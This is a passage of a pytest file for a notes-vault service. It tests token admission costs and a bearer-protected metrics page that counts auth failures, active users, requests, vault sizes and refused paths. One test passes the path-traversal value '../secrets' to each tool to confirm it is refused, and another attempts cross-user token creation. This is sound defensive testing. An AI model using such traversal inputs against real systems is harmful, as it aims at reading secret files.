    "a grant": lambda vaults, clock: _granted(vaults),
    "a grant unused for long": lambda vaults, clock: _granted(vaults, rests=lambda: clock.forward(3_600)),
    "an ended grant": lambda vaults, clock: vaults.tokens.create_jwt(ADA, grant="gone"),
    "nothing": lambda vaults, clock: "",
    "nonsense": lambda vaults, clock: "nonsense",
}


def _granted(vaults: Service, rests: Callable[[], None] = lambda: None) -> str:
    grant = vaults.grants.start(ADA, kind="oauth", client="editor", scopes=ALL_SCOPES)
    rests()
    return vaults.tokens.create_jwt(ADA, grant=grant.id)


@pytest.mark.parametrize("kind", ADMITTED)
def test_admission_costs_at_most_one_read_and_one_write(shelves: Shelves, tmp_path: Path, clock: Clock, kind: str):
    records = Counting(shelves.records)
    vaults = Service(config_in(tmp_path, rate_limit_per_minute=9), records, shelves.files, clock=clock)
    token = ADMITTED[kind](vaults, clock)
    for address in ("192.0.2.1", "192.0.2.2", "192.0.2.2", "192.0.2.2", "192.0.2.2"):
        records.asked.clear()
        with suppress(RateLimited, Unauthorized):
            vaults.gate.admit(token, address=address)
        assert records.reads <= 1, records.asked
        assert records.writes <= 1, records.asked
        assert records.asked.total() == records.reads + records.writes


# Metrics


def counted(site: Site) -> dict[tuple[str, ...], float]:
    """The samples of /metrics, by name and label values."""
    answer = site.web.get("/metrics", headers={"Authorization": f"Bearer {METRICS_TOKEN}"})
    assert (answer.status_code, answer.headers["Content-Type"][:10]) == (200, "text/plain")
    families = text_string_to_metric_families(answer.text)
    samples = [sample for family in families for sample in family.samples]
    return {(s.name.removeprefix("notes_vault_"), *s.labels.values()): s.value for s in samples}


@on_a_laptop
def test_without_its_setting_there_is_no_page_of_metrics(site: Site):
    for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": f"Bearer {METRICS_TOKEN}"}):
        assert site.web.get("/metrics", headers=headers).status_code == 404


@on_a_laptop
@pytest.mark.parametrize("header", [None, "Bearer", "Bearer ", "Bearer wrong", f"Basic {METRICS_TOKEN}", "Bearer é"])
def test_metrics_are_for_whoever_has_their_token(opened: Open, header: str | None):
    web = opened(metrics_token=METRICS_TOKEN).web
    answer = web.get("/metrics", headers={"Authorization": header.encode()} if header else {})
    assert (answer.status_code, answer.headers["WWW-Authenticate"]) == (401, "Bearer")
    assert "notes_vault" not in answer.text


@on_a_laptop
def test_a_users_token_is_not_for_the_metrics(opened: Open):
    assert opened(metrics_token=METRICS_TOKEN).user().ask("GET", "/metrics").status_code == 401


@on_a_laptop
@pytest.mark.parametrize("path", ["/mcp", "/api/me", "/api/auth/refresh-token"])
def test_refused_tokens_are_counted_by_reason(opened: Open, clock: Clock, path: str):
    site = opened(metrics_token=METRICS_TOKEN)
    method = "GET" if path == "/api/me" else "POST"
    old, gone = site.user(), site.connected()
    site.vaults.grants.end(ADA, gone.get("/api/me")["grant"])
    clock.forward(8 * DAY)
    site.web.request(method, path)
    for user in (old, gone, old, User(site.web, "nonsense"), User(site.web, site.user().token[:-2])):
        assert user.ask(method, path).status_code == 401
    found = {
        labels[1]: value for labels, value in counted(site).items() if labels[0] == "authentication_failures_total"
    }
    assert found == {"missing": 1, "expired": 3, "invalid": 2}


def test_users_who_did_something_today_are_counted(opened: Open, clock: Clock):
    site = opened(metrics_token=METRICS_TOKEN)
    for user_id in (ADA, BOB):
        site.vaults.sign_in(Identity(user_id, user_id), "page", ADDRESS)
    assert counted(site)[("active_users",)] == 2
    clock.forward(DAY)
    assert counted(site)[("active_users",)] == 0
    site.user().call("list_notes")
    assert counted(site)[("active_users",)] == 1


def test_requests_are_counted_per_user(opened: Open):
    site = opened(metrics_token=METRICS_TOKEN)
    ada, bob = site.user(), site.user(BOB)
    for tool in ("list_notes", "get_tags", "read_note"):
        ada.call(tool)
    bob.call("list_notes")
    found = counted(site)
    assert (found["requests_total", ADA], found["requests_total", BOB]) == (3, 1)


@on_a_laptop
@pytest.mark.parametrize("act", ["tools/list", "/api/me"])
def test_a_request_that_calls_no_tool_counts_too(opened: Open, act: str):
    site = opened(metrics_token=METRICS_TOKEN)
    ada = site.user()
    assert ada.get(act) if act.startswith("/") else ada.rpc(act)
    assert counted(site).get(("requests_total", ADA)) == 1


def test_the_size_of_each_vault_is_shown(opened: Open):
    site = opened(metrics_token=METRICS_TOKEN)
    site.vaults.sign_in(Identity(ADA, "Ada"), "page", ADDRESS)
    ada = site.user()
    ada.call("delete_note", path="Welcome")
    ada.call("write_note", path="Moss", body="12345")
    found = counted(site)
    assert (found["vault_notes", ADA], found["vault_bytes", ADA]) == (1, 5)


PLACES = ("path", "folder", "to")
WITH_PATH = [(tool, name) for tool in TOOLS for name in PLACES if name in TOOLS[tool].takes["properties"]]


@on_a_laptop
@pytest.mark.parametrize(("tool", "name"), WITH_PATH)
def test_a_refused_path_is_counted(opened: Open, tool: str, name: str):
    site = opened(metrics_token=METRICS_TOKEN)
    ada = site.user()
    ada.call("write_note", path="Moss", body="one")
    assert ada.call(tool, **{**GOOD[tool], name: "../secrets"})["error"]["code"] == "invalid"
    assert counted(site)["refused_paths_total",] == 1


@on_a_laptop
def test_a_mistake_that_is_not_in_a_path_is_no_refused_path(opened: Open):
    site = opened(metrics_token=METRICS_TOKEN)
    ada = site.user()
    assert ada.call("read_note", path="Moss", colour="red")["error"]["code"] == "invalid"
    assert ada.call("search_notes", query="x", cursor="nonsense")["error"]["code"] == "invalid"
    assert counted(site)["refused_paths_total",] == 0


def test_naming_another_user_is_counted(opened: Open):
    site = opened(metrics_token=METRICS_TOKEN)
    assert site.user().ask("POST", "/api/auth/create-token", json={"user_id": BOB}).status_code == 403
    assert site.user().ask("POST", "/api/auth/create-token", json={"user_id": ADA}).status_code == 200
    assert counted(site)["cross_user_attempts_total",] == 1
